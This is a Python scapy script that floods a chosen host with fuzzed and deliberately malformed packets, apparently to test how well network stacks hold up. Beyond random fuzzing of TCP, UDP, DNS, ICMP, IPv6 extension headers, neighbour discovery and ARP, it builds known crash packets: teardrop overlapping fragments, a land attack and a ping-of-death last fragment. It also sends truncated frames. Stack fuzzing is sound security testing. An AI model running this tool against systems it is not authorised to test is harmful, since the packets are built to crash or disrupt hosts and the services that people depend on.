#!/usr/bin/python3
"""Sends malformed packets to a host: scapy's fuzz() over every layer, and shapes that have killed stacks before.

Usage: malformed.py INTERFACE ADDRESS PORT SEED. Prints how many it has sent. Waits for no answer: whether the host is still there is
for the caller to find out.
"""

import random
import sys

from scapy.all import (
    ARP,
    DNS,
    ICMP,
    IP,
    TCP,
    UDP,
    Ether,
    ICMPv6DestUnreach,
    ICMPv6EchoRequest,
    ICMPv6MLQuery,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6NDOptPrefixInfo,
    ICMPv6PacketTooBig,
    IPOption,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
    Padding,
    Raw,
    conf,
    fuzz,
    getmacbyip,
    getmacbyip6,
)

interface, address, port, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
random.seed(seed)
conf.verb = 0
conf.iface = interface
six = ":" in address
mac = getmacbyip6(address) if six else getmacbyip(address)
if mac is None:
    sys.exit("nobody answers for " + address)
ether = Ether(dst=mac)
ip = IPv6(dst=address) if six else IP(dst=address)


def packets():
    ports = {"dport": port, "sport": 2000}
    for _ in range(150):
        yield ip / fuzz(TCP(**ports))
        yield ip / fuzz(UDP(**ports))
        yield ip / TCP(flags=random.getrandbits(8), seq=random.getrandbits(32), **ports) / Raw(b"x" * random.randrange(60))
        yield ip / TCP(options=[(random.randrange(256), bytes(random.randrange(12)))], **ports)
        # The options end beyond the header, or lie about their lengths.
        yield ip / TCP(dataofs=random.randrange(16), **ports) / Raw(bytes(random.randrange(256) for _ in range(40)))
        yield ip / UDP(len=random.choice([0, 1, 7, 8, 9, 65535]), **ports) / Raw(b"y" * 10)
        yield ip / UDP(**ports) / fuzz(DNS())
    for _ in range(100):
        if six:
            yield fuzz(IPv6(dst=address, src=ip.src)) / TCP(**ports)
            for layer in (ICMPv6EchoRequest, ICMPv6DestUnreach, ICMPv6PacketTooBig, ICMPv6MLQuery):
                yield ip / fuzz(layer()) / Raw(bytes(random.randrange(256) for _ in range(60)))
            for layer in (ICMPv6ND_NS, ICMPv6ND_NA, ICMPv6ND_RA):
                yield IPv6(dst=address, hlim=255) / fuzz(layer()) / fuzz(ICMPv6NDOptPrefixInfo())
            yield ip / fuzz(IPv6ExtHdrHopByHop()) / TCP(**ports)
            yield ip / fuzz(IPv6ExtHdrDestOpt()) / fuzz(IPv6ExtHdrRouting()) / UDP(**ports)
            yield ip / fuzz(IPv6ExtHdrFragment()) / Raw(b"z" * random.randrange(100))
            chain = ip
            for _ in range(random.randrange(30)):
                chain = chain / IPv6ExtHdrDestOpt()
            yield chain / TCP(**ports)
        else:
            yield fuzz(IP(dst=address, src=ip.src)) / TCP(**ports)
            yield IP(dst=address, ihl=random.randrange(16), len=random.choice([0, 19, 20, 21, 65535])) / TCP(**ports)
            yield IP(dst=address, options=[IPOption(bytes([random.randrange(256), random.randrange(42)]))]) / UDP(**ports)
            yield ip / fuzz(ICMP()) / Raw(bytes(random.randrange(256) for _ in range(60)))
            yield ip / ICMP(type=3, code=4, nexthopmtu=random.choice([0, 67, 68, 576])) / IP(src=address) / TCP()
            yield IP(dst=address, flags=random.randrange(8), frag=random.randrange(8192), id=7) / Raw(b"z" * 24)
            # Teardrop, land, and the ping of death's last fragment.
            yield IP(dst=address, flags=1, frag=0, id=9, proto=17) / Raw(b"a" * 48)
            yield IP(dst=address, flags=0, frag=3, id=9, proto=17) / Raw(b"b" * 4)
            yield IP(dst=address, src=address) / TCP(sport=port, dport=port, flags="S")
            yield IP(dst=address, frag=8191, id=11, proto=1) / Raw(b"c" * 1000)


sent = 0
with conf.L2socket(iface=interface) as socket:
    for packet in packets():
        frame = bytes(ether / packet)[:1514]
        socket.send(Raw(frame))
        sent += 1
        if random.randrange(4) == 0:
            # Cut off anywhere, or with an end that is not the packet's.
            socket.send(Raw(frame[: random.randrange(15, max(16, len(frame)))].ljust(15, b"\0")))
            socket.send(Raw((frame + bytes(Padding(b"\xff" * 40)))[:1514]))
            sent += 2
    if not six:
        for _ in range(100):
            socket.send(Raw(bytes(ether / fuzz(ARP()))))
            sent += 1
print("sent", sent)
